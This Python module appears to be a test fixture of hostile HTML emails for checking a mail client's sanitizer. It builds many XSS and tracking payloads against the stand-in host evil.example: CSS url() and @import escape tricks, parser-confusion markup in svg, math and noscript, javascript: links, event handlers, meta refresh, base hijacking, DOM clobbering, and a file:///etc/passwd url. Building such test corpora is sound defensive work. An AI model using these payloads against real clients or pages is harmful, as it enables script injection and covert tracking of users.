# ruff: noqa: E501 - an attack is easier to follow on one line
"""Hostile mails of many kinds. Each would run `RUN`, or load something from `EVIL`, if nothing stopped it."""

EVIL = "https://evil.example"
RUN = (
    "try{top.document.title='hacked';document.title='hacked';top.document.cookie='hacked=1';alert(1)}catch(e){};"
    f"new Image().src='{EVIL}/ran'"
)
_IMG = f"<img src={EVIL}/m onerror={RUN!r}>"
_BAD = f"url({EVIL}/c)"
_LINK = '<a href="https://shop.example/">shop</a>'
# Properties whose URL is a document with an SVG element in it.
EFFECTS = (
    *(
        "clip-path",
        "mask",
        "mask-image",
        "-webkit-mask-image",
        "-webkit-mask-box-image",
        "filter",
        "backdrop-filter",
    ),
    *(
        "fill",
        "stroke",
        "marker",
        "marker-start",
        "marker-mid",
        "marker-end",
        "cursor",
        "offset-path",
        "shape-outside",
    ),
)
# With images on, these load from CDN, and EVIL is known as a tracker by its pixel.
CDN = "https://cdn.example"
PICTURES = f"<img src={EVIL}/open width=1 height=1>" + f"<img src={CDN}/picture width=90 height=90>" * 40


def _style(css: str) -> str:
    return f"<style>{css}</style><p class=x>words</p>{_LINK}"


def _attribute(css: str) -> str:
    return f'<p style="{css}">words</p>{_LINK}'


CSS = {
    "form feed in a string": _style(f"a{{content:'\f;background:{_BAD};x:'}}"),
    "form feed in an attribute": _attribute(f"content:'\f;background:{_BAD};x:'"),
    "carriage return in a string": _style(f"a{{content:'\r;background:{_BAD};x:'}}"),
    "escaped newline in a string": _style(f"a{{content:'\\\n;';background:{_BAD}}}"),
    "NUL in a function's name": _style(f"p{{background:u\0rl({EVIL}/a)}} p{{background:\0url({EVIL}/b)}}"),
    "byte order mark": _style(f"\ufeff@import url({EVIL}/a);p{{background:{_BAD}}}"),
    "escaped function": _style(
        f"p{{background:\\75 r\\6C({EVIL}/a);list-style:u\\72\tl({EVIL}/b);cursor:\\55 RL('{EVIL}/c')}}"
    ),
    "escaped import": _style(f"@\\69mport '{EVIL}/a';@\\00069 mport '{EVIL}/b';@IMPORT url(\"{EVIL}/c\");"),
    "import with conditions": _style(
        f"@import url({EVIL}/a) layer(x) supports(display:grid) screen;@import '{EVIL}/b' all"
    ),
    "import after a comment": _style(
        f"/*x*/@charset 'utf-8';/**/@import/**/'{EVIL}/a'/**/;<!--@import '{EVIL}/b';-->"
    ),
    "unclosed comment": _style(f"p{{background:{_BAD}/*"),
    "unclosed string": _style(f"p{{content:'x;}} p{{background:{_BAD}"),
    "unclosed url": _style(f"p{{background:url({EVIL}/a"),
    "unclosed block": _style(f"@media screen{{p{{background:{_BAD}"),
    "bad url": _style(
        f"p{{background:url({EVIL}/a b);background:url(x\"y) , {_BAD}}} q{{}} p{{background:url( {EVIL}/'q )}}"
    ),
    "image-set": _style(
        f"p{{background:image-set('{EVIL}/a' 1x, url({EVIL}/b) 2x);background:-webkit-image-set({_BAD} 1x)}}"
    ),
    "cross-fade": _style(
        f"p{{background:cross-fade({_BAD}, url({EVIL}/b) 50%);background:-webkit-cross-fade(url({EVIL}/d),{_BAD},50%)}}"
    ),
    "image and src": _style(
        f"p{{background:image('{EVIL}/a');background:src('{EVIL}/b');--s:'{EVIL}/c';background:src(var(--s))}}"
    ),
    "variables": _style(
        f":root{{--a:{_BAD};--b:url('{EVIL}/v')}} p{{background:var(--a);border-image:var(--b) 1;list-style-image:var(--z,url({EVIL}/z))}}"
    ),
    "registered property": _style(
        f"@property --p{{syntax:'<image>';inherits:true;initial-value:{_BAD}}} p{{background:var(--p)}}"
    ),
    "attr()": f'<style>p{{background:attr(data-u type(<url>));background-image:url(attr(data-u))}}</style><p data-u="{EVIL}/a">x</p>',
    "env()": _style(f"p{{background:env(x, {_BAD})}}"),
    "if() and functions": _style(
        f"p{{background:if(style(--x:1):{_BAD};else:url({EVIL}/e))}} @function --f(){{result:{_BAD}}} p{{background:--f()}}"
    ),
    "fonts": _style(
        f"@font-face{{font-family:f;src:url({EVIL}/f.woff2),local(x),url('{EVIL}/g') format('woff2')}}p{{font-family:f}}"
    ),
    "a font after one that ends early": _style(
        f"@font-face{{}}@font-face{{font-family:f;src:{_BAD}}}p{{font:9px f}}"
    ),
    "a font feature file": _style(
        f"@font-feature-values f{{}}@font-palette-values --p{{font-family:f;override-colors:0 red}}@counter-style c{{system:cyclic;symbols:{_BAD}}}li{{list-style:c}}"
    )
    + "<li>x",
    "namespace": _style(f"@namespace url({EVIL}/n);@namespace s '{EVIL}/m';p{{background:{_BAD}}}"),
    "document and old rules": _style(
        f"@document url({EVIL}/d){{p{{background:{_BAD}}}}}@-moz-document url-prefix(){{p{{color:red}}}}p{{behavior:{_BAD};-moz-binding:url({EVIL}/x#y);width:expression({RUN})}}"
    ),
    "nesting and layers": _style(
        f"@layer a{{@layer b{{p{{&:hover,&{{background:{_BAD}}}}}}}}}@scope(body){{:scope p{{mask:{_BAD}}}}}@container(width>0){{p{{filter:url({EVIL}/f#x)}}}}@supports(display:block){{p{{clip-path:url({EVIL}/g#x)}}}}"
    ),
    "animations": _style(
        f"@keyframes k{{from{{background:{_BAD}}}to{{list-style:url({EVIL}/k)}}}}p{{animation:k 1s infinite}}@starting-style{{p{{background:{_BAD}}}}}p{{transition:background 9s}}"
    ),
    "pseudo-elements": _style(
        f"p::before{{content:{_BAD}}}p::after{{content:image-set('{EVIL}/b' 1x)}}p::marker{{content:url({EVIL}/m)}}::selection{{background:{_BAD}}}p::first-letter{{background:url({EVIL}/l)}}"
    ),
    "shapes and offsets": _style(
        f"p{{shape-outside:{_BAD};offset-path:url({EVIL}/o#p);mask-border:url({EVIL}/b) 1;cursor:url({EVIL}/u) 1 1,auto;-webkit-box-reflect:below 1px {_BAD};fill:url({EVIL}/z#a)}}"
    ),
    "effects": _style(
        "p{"
        + ";".join(f"{name}:url({EVIL}/{name}#x)" for name in EFFECTS)
        + f"}} q{{cursor:url({EVIL}/u),image-set('{EVIL}/v' 1x),auto;clip-path:url('{EVIL}/w');mask:url( {EVIL}/x#y )}}"
    )
    + f'<svg><path d="M0 0L9 9" style="{";".join(f"{name}:url({EVIL}/s{name}#x)" for name in EFFECTS)}"/></svg>',
    "effects by variables": _style(
        f":root{{--a:{_BAD};--b:{{}} background {_BAD};--c:x;background:{_BAD}}} p{{filter:var(--a);mask:var(--b);clip-path:var(--a)}}"
    ),
    "effects after escapes and NUL": _style(
        f"p{{f\\69lter:{_BAD};clip\\2d path:{_BAD};ma\0sk:{_BAD};\\66\fill:{_BAD};background\f:none;mask:{_BAD}}}"
        f"p{{background:red}}filter:{_BAD};p{{background:{{}}mask:{_BAD}}} p{{background 1;clip-path:{_BAD}}}"
    ),
    "effects in nested rules": _style(
        f"p{{background:red;&{{filter:{_BAD}}}@media all{{clip-path:{_BAD}}}}}@container(width>0){{p{{mask:{_BAD}}}}}@layer{{p{{shape-outside:{_BAD}}}}}"
        f"@counter-style c{{symbols:{_BAD} image-set('{EVIL}/i' 1x)}}@position-try --p{{background:{_BAD}}}@view-transition{{types:{_BAD}}}"
    ),
    "badges through style queries": _style(
        "".join(
            f"@container style(--own:{width}px){{*::first-line,*::first-letter{{background:url({EVIL}/{width})}}}}"
            for width in (10, 18, 25)
        )
        + f"body>*{{background:if(style(--height:18px):{_BAD})}}"
    ),
    "data-style link": f"<link rel=stylesheet href='data:text/css,p{{background:{_BAD}}}'><style>@import 'data:text/css,p{{background:{_BAD}}}';</style><p>x",
    "svg in data urls": _style(
        f"p{{background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{EVIL}/i'/><script>alert(1)</script></svg>\")}}"
    ),
    "html in data urls": _style(
        f"p{{background:url(data:text/html,<script>{RUN}</script>);list-style:url(DATA:text/css,x)}}"
    ),
    "closing tags in CSS": f"<style>p{{content:'</style>{_IMG}'}}</style><style>/*</STYLE >{_IMG}*/</style><style><!--</style>{_IMG}--></style>",
    "closing tags by escapes": _style(
        f"p{{content:'\\3C/style\\3E{_IMG.replace(chr(39), '')}'}} p{{background:url(\\3C/style\\3E)}}"
    ),
    "surrogates and noncharacters": _style(
        f"p{{content:'\\d800\\10ffff\\110000\\0';background:{_BAD}}} \ufffe{{}} p\uffff{{background:{_BAD}}}"
    ),
    "long numbers": _style(
        "p{width:"
        + "9" * 5_000
        + f"px;background:{_BAD};z-index:1e{'9' * 400}}} @media(max-width:1.2.3px){{p{{background:{_BAD}}}}}"
    ),
    "quotes in an attribute": _attribute(
        f"background:url(&quot;{EVIL}/a&quot;);content:&quot;&#12;;background:{_BAD}"
    ).replace("'", "&#39;"),
    "braces in an attribute": _attribute(f"}} p{{background:{_BAD}}} x{{;background:{_BAD}"),
    "other schemes": _style(
        f"p{{background:url(HTTPS://evil.example/a),url(//evil.example/b),url('\\2f/evil.example/c'),url(http:evil.example/d),url('/\t/evil.example/e'),url(ftp://evil.example/f),url(blob:{EVIL}/g),url(javascript:alert(1)),url(file:///etc/passwd)}}"
    ),
    "badges through selectors": _style(
        f"body:has(mailsight-badge[data-look='4']){{background:{_BAD}}}mailsight-badge{{background:{_BAD}}}[data-badge]~*{{background:url({EVIL}/s)}}html:has([data-lit]){{background:url({EVIL}/l)}}"
    ),
}

MARKUP = {
    "noscript": f'<noscript><p title="</noscript>{_IMG}"></noscript><noscript><style></noscript>{_IMG}</style></noscript>',
    "select": f"<select><option><style></option></select>{_IMG}</style><select><template><script>{RUN}</script></template><svg onload={RUN!r}></select><select><keygen autofocus onfocus={RUN!r}>",
    "svg style": f"<svg><style><img src=x onerror={RUN!r}></style><style>@import '{EVIL}/a';*{{fill:{_BAD}}}</style><p>out{_IMG}</svg>",
    "svg title and desc": f"<svg><title><style></title>{_IMG}</style></title><desc><table><svg><style></table>{_IMG}</style></desc></svg>",
    "svg loads": f'<svg><image href="{EVIL}/a"/><image xlink:href="{EVIL}/b"/><use href="{EVIL}/c#d"/><feImage href="{EVIL}/e"/><script xlink:href="{EVIL}/f"/><linearGradient href="{EVIL}/g#h"/><pattern xlink:href="{EVIL}/i#j"/><a href="javascript:{RUN}"><rect width=99 height=99 /></a></svg>',
    "svg animation": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><set attributeName=xlink:href to="javascript:{RUN}"/><text y=20>t</text></a><animateTransform onbegin={RUN!r} attributeName=transform dur=1s></svg><svg><discard onbegin={RUN!r}/></svg>',
    "svg use data": f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/u'/></svg>#x\"/></svg>",
    "cdata": f"<svg><![CDATA[><script>{RUN}</script>]]></svg><svg><style><![CDATA[</style>{_IMG}]]></style></svg><![CDATA[{_IMG}]]>",
    "math": f'<math><annotation-xml encoding="text/html"><style></annotation-xml>{_IMG}</style></annotation-xml><mi xlink:href="javascript:{RUN}" href="javascript:{RUN}">x</mi><mglyph src="{EVIL}/g"/></math>',
    "math in tables": f"<math><mtext><table><mglyph><style><math>{_IMG}</style></mglyph></table></mtext></math><table><math><mi><style></table>{_IMG}",
    "forms in forms": f"<form><div></form><form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    "nesting beyond any limit": "<div>" * 600
    + f"<form><style></form>{_IMG}</style>"
    + "</div>" * 600
    + "<b><i>" * 300
    + f"<svg></b><style></i>{_IMG}",
    "raw text": f"<xmp></xmp{_IMG}</xmp><iframe></iframe><noembed></noembed{_IMG}</noembed><noframes><p title='</noframes>{_IMG}'></noframes><plaintext>{_IMG}",
    "textarea and title": f"<textarea></textarea><img src=x onerror={RUN!r}><title></title>{_IMG}<textarea><!--</textarea>{_IMG}-->",
    "template": f"<template><img src={EVIL}/t></template><template shadowrootmode=open><style>@import '{EVIL}/s';:host{{background:{_BAD}}}</style>{_IMG}</template><div><template shadowroot=closed shadowrootmode=closed>{_IMG}</template></div>",
    "comments": f"<!--><img src=x onerror={RUN!r}>--><!--->{_IMG}--><!--x--!>{_IMG}<!-{_IMG}-><!DOCTYPE x [<!ENTITY y '{_IMG}'>]>&y;<?xml-stylesheet href='{EVIL}/x.css'?>",
    "attributes": f"<p title='\"><script>{RUN}</script>' class=\"'>{_IMG}\" lang='`onclick=1`' data-x='--><script>{RUN}</script>'>x</p><p/onclick={RUN!r}/style=x>y</p><p\nonclick\n=\n{RUN!r}>z</p><p \x00onclick={RUN!r}>n</p>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/r'><meta http-equiv=' Refresh ' content='0; {EVIL}/s'><meta http-equiv=refresh content='0;url=javascript:{RUN}'><META HTTP-EQUIV=\"Link\" CONTENT=\"<{EVIL}/l>; rel=stylesheet\">",
    "policies": f"<meta http-equiv=Content-Security-Policy content='img-src *; script-src *'><meta http-equiv=origin-trial content=x><meta http-equiv=x-dns-prefetch-control content=on><meta name=referrer content=unsafe-url>{_IMG}",
    "base": f"<base href={EVIL}/ target=_parent><img src=a.png><a href=b>b</a><form action=c></form><base href='javascript:/{RUN}'>",
    "links": "".join(
        f'<link rel="{rel}" href="{EVIL}/{rel.split()[0]}" as=image>'
        for rel in (
            "stylesheet",
            "alternate stylesheet",
            "preload",
            "prefetch",
            "prerender",
            "modulepreload",
            "manifest",
            "icon",
            "apple-touch-icon",
            "import",
            "pingback",
            "compression-dictionary",
            "preconnect",
            "dns-prefetch",
            "next prefetch",
            "expect",
        )
    )
    + f'<link rel=preload as=image imagesrcset="{EVIL}/q 1x" imagesizes=9px><link rel=preload as=font href={EVIL}/r crossorigin>',
    "links in frames": f'<iframe srcdoc="<link rel=preconnect href={EVIL}><style>@import \'{EVIL}/a\'</style>"></iframe><iframe srcdoc="&lt;link rel=dns-prefetch href={EVIL}&gt;&lt;img src={EVIL}/b&gt;"></iframe><IFRAME srcdoc="<iframe srcdoc=&quot;<img src={EVIL}/c>&quot;>"></IFRAME><svg><link rel=stylesheet href={EVIL}/d></svg><l<link rel=prefetch href={EVIL}/e><object data="data:text/html,<link rel=preconnect href={EVIL}>"></object>',
    "svg attributes": '<svg width=90 height=90><path d="M0 0L9 9" '
    + " ".join(f'{name}="url({EVIL}/{name}#x)"' for name in EFFECTS)
    + f'/><filter id=f><feImage href="{EVIL}/h" /><feImage xlink:href="{EVIL}/i"/></filter><rect width=9 height=9 filter="url(#f)"/><textPath href="{EVIL}/j#k">t</textPath><mpath href="{EVIL}/l#m"/><cursor href="{EVIL}/n"/><foreignObject><img src={EVIL}/o></foreignObject><switch><image href="{EVIL}/p"/></switch></svg>',
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/a"]}}],"prerender":[{{"urls":["{EVIL}/b"]}}]}}</script><script type=importmap>{{"imports":{{"x":"{EVIL}/m"}}}}</script><script type=module>import "x"</script>',
    "frames": f"<iframe src={EVIL}/a></iframe><iframe srcdoc='{_IMG}<script>parent.x=1</script>'></iframe><frame src={EVIL}/b><fencedframe></fencedframe><portal src={EVIL}/c></portal><object data={EVIL}/d type=text/html></object><embed src={EVIL}/e><applet code=x codebase={EVIL}/f></applet>",
    "frames by scripts": f'<iframe src="javascript:{RUN}"></iframe><object data="javascript:{RUN}"></object><embed src="javascript:{RUN}"><iframe src="data:text/html,<script>{RUN}</script>"></iframe><object data="data:text/html,<img src={EVIL}/o>"></object>',
    "frameset": f"<frameset onload={RUN!r}><frame src={EVIL}/f><frame src='javascript:{RUN}'></frameset>",
    "pictures": f'<img src={EVIL}/a><img srcset="{EVIL}/b 1x,{EVIL}/c 2x" sizes=9px><picture><source srcset={EVIL}/d media=all><img src={EVIL}/e></picture><image src={EVIL}/f><img src=data:, lowsrc={EVIL}/g dynsrc={EVIL}/h longdesc={EVIL}/i><input type=image src={EVIL}/j><img loading=lazy src={EVIL}/k><img src="//evil.example/l"><img src="\\\\evil.example\\m"><img src=" &#9;https:&#10;//evil.example/n">',
    "backgrounds": f"<body background={EVIL}/a><table background={EVIL}/b><tr background={EVIL}/c><td background=\" {EVIL}/d\"><thead background='//evil.example/e'><tbody style='background:{_BAD}'>",
    "media": f"<video src={EVIL}/a poster={EVIL}/b autoplay controls><source src={EVIL}/c><track src={EVIL}/d default></video><audio src={EVIL}/e autoplay preload=auto></audio><bgsound src={EVIL}/f><video poster='data:image/svg+xml,<svg onload=alert(1)/>'></video>",
    "pings": f'<a href="#x" ping="{EVIL}/a" attributionsrc="{EVIL}/b">x</a><area href="#y" ping="{EVIL}/c"><img attributionsrc="{EVIL}/d" browsingtopics>',
    "forms": f'<form action={EVIL}/a target=_top><input name=p autofocus onfocus={RUN!r}><button formaction="javascript:{RUN}">b</button><input type=submit formaction={EVIL}/b formtarget=_parent></form><input form=f><form id=f action={EVIL}/c></form><isindex action={EVIL}/d>',
    "scripts": f"<script>{RUN}</script><script src={EVIL}/a></script><SCRIPT/SRC={EVIL}/b></SCRIPT><script type=module src={EVIL}/c></script><script async nomodule>{RUN}</script ><script\x0b>{RUN}</script><<script>{RUN}//<</script>",
    "scripts in links": "".join(
        f'<a href="{scheme}{RUN}">x</a>'
        for scheme in (
            "javascript:",
            " \x01javascript:",
            "JaVaScRiPt:",
            "java&Tab;script:",
            "java&NewLine;script&colon;",
            "vbscript:",
            "data:text/html,",
            "blob:",
            "feed:javascript:",
            "view-source:javascript:",
        )
    ),
    "handlers": "".join(
        f"<div on{event}={RUN!r} tabindex=0>x</div>"
        for event in (
            "load",
            "error",
            "click",
            "focus",
            "mouseover",
            "animationstart",
            "transitionend",
            "toggle",
            "beforetoggle",
            "scroll",
            "wheel",
            "pointerenter",
            "beforexrselect",
            "contentvisibilityautostatechange",
            "securitypolicyviolation",
        )
    )
    + f"<style>div{{animation:z 1s}}@keyframes z{{}}</style><details open ontoggle={RUN!r}>x</details><marquee onstart={RUN!r}>x</marquee><body onpageshow={RUN!r}>",
    "popovers and dialogs": f"<button popovertarget=p commandfor=p command=show-popover onclick={RUN!r}>b</button><div id=p popover onbeforetoggle={RUN!r}><img src={EVIL}/p></div><dialog open onclose={RUN!r}><img src={EVIL}/d><form method=dialog action={EVIL}/m></form></dialog><details open name=x>{_IMG}</details><select><selectedcontent>{_IMG}",
    "custom elements": f"<x-y is=z onclick={RUN!r} style='background:{_BAD}'>c</x-y><mailsight-badge data-badge=0 data-look=4>999</mailsight-badge><mailsight-x>y</mailsight-x><o:p>w</o:p><v:rect fill src={EVIL}/v><slot name=s>z</slot><portal>",
    "clobbering": "<img name=documentElement><form name=body><input name=scrollHeight><input name=attributes></form><a id=defaultView name=fonts>x</a><img name=createElement><form id=querySelectorAll><input id=contentDocument><a id=scrollingElement>",
    "clobbering by a form": "<form id=body name=documentElement><input name=style><input name=scrollHeight></form><form name=fonts></form><form name=scrollingElement></form><form name=addEventListener></form>",
    "invisible characters": f"<p>\u202e\u2066\ufeff\u200b{_LINK}</p><a href='https://shop.example\u202e/moc.live//:sptth'>x</a><img src='https://evil\u3002example/x'><img src='https://ⓔⓥⓘⓛ.example/y'>",
    "no body": f"<html><head><title>x</title><link rel=stylesheet href={EVIL}/a><frameset></html>{_IMG}",
    "xml": f"<?xml version='1.0'?><?xml-stylesheet href='{EVIL}/a' type='text/css'?><html xmlns='http://www.w3.org/1999/xhtml'><body xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{RUN}</x:script><script xmlns='http://www.w3.org/1999/xhtml'/>{_IMG}</body></html>",
}

MAILS = {**{f"CSS: {name}": html for name, html in CSS.items()}, **MARKUP}
